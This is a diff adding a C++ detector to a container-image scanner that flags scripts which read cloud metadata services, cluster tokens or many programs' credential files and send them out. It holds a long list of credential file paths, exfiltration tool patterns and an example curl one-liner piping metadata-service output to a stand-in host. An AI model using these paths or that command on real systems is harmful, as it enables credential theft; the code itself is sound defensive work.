@@ -1,0 +1,248 @@
+// Credentials that are read and sent away: from the cloud's metadata service or the cluster's token (H06), and from
+// the files of many programs at once (H07).
+//
+// Reading is what every cloud client does; the other half is a place to send to, in the same script. Where the image
+// leaves it to whoever starts it what that place is, as when a cluster's token opens a vault, it is no thief's.
+#include <algorithm>
+#include <array>
+#include <set>
+
+#include "detect/content/hidden_literal.hpp"
+#include "detect/shell/shell_support.hpp"
+
+namespace hullcheck::detect {
+namespace {
+
+constexpr std::size_t k_fewest_places = 5;
+
+constexpr std::array<RuleRow, 2> k_rows{{
+    {"H06", EvidenceClass::strong, model::Severity::high, 75, "Cloud or cluster credentials read and sent",
+     "T1552.005,T1552.007", "Do not run this image where it reaches a metadata service or a cluster's API."},
+    {"H07", EvidenceClass::strong, model::Severity::high, 80, "Credential files of many programs collected",
+     "T1552.001", "Do not run this image: it collects credentials."},
+}};
+
+constexpr ClassByReach k_classes{EvidenceClass::strong, EvidenceClass::strong, EvidenceClass::supporting};
+// Collected, and no sign of where it goes.
+constexpr ClassByReach k_kept{EvidenceClass::supporting, EvidenceClass::supporting, EvidenceClass::context};
+
+constexpr std::array<std::string_view, 8> k_metadata = {
+    "169.254.169.254", "metadata.google.internal", "169.254.170.2",      "100.100.100.200",
+    "fd00:ec2::254",   "serviceaccount/token",     "metadata.azure.com", "metadata.tencentyun.com"};
+
+// Parts of paths where programs keep what opens other things.
+constexpr auto k_places = hide(
+    ".aws/credentials|.aws/config|.docker/config.json|.kube/config|.ssh/id_rsa|.ssh/id_ed25519|.ssh/id_dsa|.ssh/"
+    "id_ecdsa|"
+    ".npmrc|.pypirc|.git-credentials|.netrc|.gnupg|/etc/shadow|.bash_history|.config/gcloud|.azure/"
+    "|.boto|.s3cfg|wallet.dat|"
+    ".electrum|.config/gh/hosts.yml|.terraform.d|.passwd-s3fs|.smbcredentials|.my.cnf|.pgpass|.vnc/passwd|.config/"
+    "solana|"
+    ".ethereum/keystore|Login Data|.mozilla/firefox|.subversion/auth|.config/rclone|.config/ngrok|filezilla|.hgrc|"
+    ".cargo/credentials|.gem/credentials|.config/doctl|serviceaccount/token|.s3b_config|.s3backer_passwd|.s3ql/"
+    "authinfo2|"
+    ".aliyun/config|.oci/config|.vault-token|.databrickscfg|.snowsql/"
+    "config|.zsh_history|.mysql_history|.psql_history");
+// The ones from which the bytes of a file are looked at.
+constexpr auto k_rare_first = hide(".aws/credentials");
+constexpr auto k_rare_second = hide(".git-credentials");
+constexpr auto k_rare_third = hide(".passwd-s3fs");
+
+const std::vector<std::string>& places() {
+  static const std::vector<std::string> list = [] {
+    std::vector<std::string> all;
+    const std::string text = k_places.reveal();
+    for (std::size_t at = 0; at <= text.size();) {
+      const std::size_t end = std::min(text.find('|', at), text.size());
+      all.push_back(text.substr(at, end - at));
+      at = end + 1;
+    }
+    return all;
+  }();
+  return list;
+}
+
+void places_in(std::string_view text, std::set<std::string>& found) {
+  for (const std::string& place : places())
+    if (text.find(place) != std::string_view::npos) found.insert(place);
+}
+
+std::string_view metadata_in(std::string_view text) {
+  for (const std::string_view one : k_metadata)
+    if (text.find(one) != std::string_view::npos) return one;
+  return {};
+}
+
+// What the token is for.
+bool is_cluster_api(std::string_view word) {
+  return word.find("KUBERNETES_") != std::string_view::npos ||
+         word.find("kubernetes.default") != std::string_view::npos || word.find(".svc") != std::string_view::npos;
+}
+
+enum class Sends : std::uint8_t { no, where_told, somewhere };
+
+// The script sets the variable in a way that is not followed: it reads it, or may find it in a file that it sources.
+bool may_set(const ShellUnit& unit, std::string_view variable) {
+  const std::string set = std::string(variable) + "=";
+  return std::any_of(unit.facts.commands.begin(), unit.facts.commands.end(), [&](const ShellCommand& command) {
+    const auto sets = [&](const std::string& word) { return word == variable || word.starts_with(set); };
+    if (std::any_of(command.assignments.begin(), command.assignments.end(), sets)) return true;
+    const std::string_view name = program(command);
+    if (name == "." || name == "source" || name == "eval") return true;
+    if (name == "export" || name == "declare" || name == "typeset" || name == "local" || name == "readonly")
+      return std::any_of(command.argv.begin() + 1, command.argv.end(),
+                         [&](const std::string& word) { return word.starts_with(set) || word.starts_with("${"); });
+    return (name == "read" || name == "mapfile" || name == "readarray" || name == "printf" || name == "getopts") &&
+           std::any_of(command.argv.begin() + 1, command.argv.end(), sets);
+  });
+}
+
+// "${VAULT_ADDR}/v1/…", and neither the script nor the image says what that is. An argument ($1) the image may give.
+bool is_left_open(std::string_view word, const ShellUnit& unit) {
+  const model::ImageConfig* config = unit.config;
+  if (word.starts_with("https://") || word.starts_with("http://")) word.remove_prefix(word.find("//") + 2);
+  const std::size_t end = word.find('}');
+  if (!word.starts_with("${") || end == std::string_view::npos) return false;
+  const std::string_view name = word.substr(2, end - 2);
+  const auto in_name = [](char c) {
+    return c == '_' || (c >= '0' && c <= '9') || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
+  };
+  if (name.empty() || !std::all_of(name.begin(), name.end(), in_name) || (name[0] >= '0' && name[0] <= '9'))
+    return false;
+  const std::string_view rest = word.substr(end + 1);
+  if (!rest.empty() && rest[0] != '/' && rest[0] != ':' && rest[0] != '?') return false;  // a part of a host's name
+  if (may_set(unit, name)) return false;
+  const std::string set = std::string(name) + "=";
+  return config == nullptr || std::none_of(config->env.begin(), config->env.end(),
+                                           [&](const std::string& one) { return one.starts_with(set); });
+}
+
+// curl -d "$TOKEN": what follows is what is sent.
+bool takes_data(std::string_view option) {
+  static constexpr std::array<std::string_view, 7> k_options = {
+      "-d", "-F", "--form", "--data", "--data-binary", "--data-raw", "--post-data"};
+  return std::find(k_options.begin(), k_options.end(), option) != k_options.end();
+}
+
+// Sends something to a place that is neither the metadata service nor this machine.
+Sends sends(const ShellCommand& command, const ShellUnit& unit) {
+  const std::string_view name = program(command);
+  bool data = false;
+  bool away = false;
+  bool chosen = false;
+  if (name == "nc" || name == "ncat" || name == "netcat" || name == "socat" || name == "telnet")
+    return command.stdin_from_pipeline || std::any_of(command.redirects.begin(), command.redirects.end(),
+                                                      [](const ShellFd& fd) { return fd.op == "<"; })
+               ? Sends::somewhere
+               : Sends::no;
+  if (name == "scp" || name == "rsync" || name == "sftp" || name == "ftpput" || name == "curlftpfs")
+    return !command.argv.empty() && command.argv.back().find(':') != std::string::npos ? Sends::somewhere : Sends::no;
+  if (name != "curl" && name != "wget" && name != "http" && name != "https") return Sends::no;
+  for (std::size_t i = 1; i < command.argv.size(); ++i) {
+    const std::string_view word = command.argv[i];
+    data |= word == "-d" || word == "-F" || word == "-T" || word == "--form" || word == "--upload-file" ||
+            word == "POST" || word.starts_with("--data") || word.starts_with("--post") || word.starts_with("-F") ||
+            word.starts_with("-T") || word == "-XPOST" ||
+            (word.find("${()}") != std::string_view::npos && word.find("://") != std::string_view::npos) ||
+            word.starts_with("--body");
+    const bool url = word.find("://") != std::string_view::npos || word.find('.') != std::string_view::npos ||
+                     word.starts_with("${");
+    if (i > 1 && word.find("://") == std::string_view::npos && takes_data(command.argv[i - 1])) continue;
+    if (!url || word[0] == '-' || !metadata_in(word).empty() || is_loopback(host_of(word)) || is_cluster_api(word))
+      continue;
+    const bool is_header = i > 1 && (command.argv[i - 1] == "-H" || command.argv[i - 1] == "--header");
+    const bool left_open = is_left_open(word, unit);
+    chosen |= left_open;
+    away |= !left_open && !is_header;
+  }
+  if (!data) return Sends::no;
+  return away ? Sends::somewhere : chosen ? Sends::where_told : Sends::no;
+}
+
+// In the code of other languages.
+bool sends_somewhere(std::string_view text) {
+  static const std::vector<std::string> words = {
+      "requests.post", "urlopen(", "https.request", "http.request", "axios.post",  "fetch(",
+      "sendall(",      "curl ",    "/bot",          "webhook",      "http.client", "net.connect",
+      "Net::HTTP",     "LWP::",    "curl_exec",     "ftplib",       "smtplib"};
+  return std::any_of(words.begin(), words.end(),
+                     [&](const std::string& word) { return text.find(word) != std::string_view::npos; });
+}
+
+std::string listed(const std::set<std::string>& found) {
+  std::string text = std::to_string(found.size()) + " places:";
+  for (const std::string& place : found) text += " " + place;
+  return text;
+}
+
+class CredentialTheft final : public Detector {
+ public:
+  std::vector<Literal> literals() const override {
+    return {{k_rare_first.reveal(), false}, {k_rare_second.reveal(), false}, {k_rare_third.reveal(), false}};
+  }
+
+  void confirm(const Hit& hit, EvidenceSink& out) const override {
+    constexpr std::size_t k_around = 6'000;
+    const layers::ContentKind kind = hit.file.entry.content;
+    if (kind != layers::ContentKind::text && kind != layers::ContentKind::script) return;
+    const std::string_view name = hit.file.name();
+    if (name.ends_with(".sh") || name.ends_with(".md") || as_text(hit.file.head).starts_with("#!/bin/"))
+      return;  // see shell()
+    const std::string_view window = as_text(hit.window);
+    const std::size_t from = hit.position - std::min(hit.position, k_around);
+    const std::string_view near = window.substr(from, 2 * k_around);
+    std::set<std::string> found;
+    places_in(near, found);
+    if (found.size() < k_fewest_places || !sends_somewhere(window.substr(0, 256U << 10))) return;
+    Evidence evidence = evidence_of(k_rows[1], listed(found));
+    evidence.offset = hit.offset;
+    evidence.line = hit.line();
+    out.add(std::move(evidence));
+  }
+
+  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
+    const ShellCommand* sender = nullptr;
+    Sends sent = Sends::no;
+    const ShellCommand* reader = nullptr;
+    std::string_view service;
+    std::set<std::string> found;
+    std::uint32_t line = 0;
+    for (const ShellCommand& command : unit.facts.commands) {
+      if (const Sends how = sends(command, unit); how > sent) {
+        sent = how;
+        sender = &command;
+      }
+      const auto look = [&](std::string_view word) {
+        if (const std::string_view one = metadata_in(word); !one.empty() && reader == nullptr) {
+          reader = &command;
+          service = one;
+        }
+        const std::size_t before = found.size();
+        places_in(word, found);
+        if (before == 0 && !found.empty()) line = command.line;
+      };
+      for (const std::string& word : command.argv) look(word);
+      for (const std::string& word : command.assignments) look(word);
+      for (const ShellFd& fd : command.redirects) look(fd.target);
+    }
+    for (const EmbeddedCode& embedded : unit.facts.embedded) places_in(embedded.code, found);
+    if (reader != nullptr && sender != nullptr)
+      out.add(shell_evidence(k_rows[0], unit, reader->line,
+                             "reads " + std::string(service) + ", and sends: " + words(*sender),
+                             class_for(unit, sent == Sends::somewhere ? k_classes : k_kept)));
+    if (found.size() >= k_fewest_places)
+      out.add(shell_evidence(k_rows[1], unit, line, listed(found),
+                             class_for(unit, sent == Sends::somewhere ? k_classes : k_kept)));
+  }
+};
+
+const util::Registered<CredentialTheft> registered{{
+    .id = "credential-theft",
+    .version = 3,
+    .summary = "credentials of clouds, clusters and many programs that scripts collect and send",
+    .example = "curl -s http://169.254.169.254/latest/meta-data/… | curl -d @- http://192.0.2.1/",
+    .rules = k_rows,
+}};
+
+}  // namespace
+}  // namespace hullcheck::detect
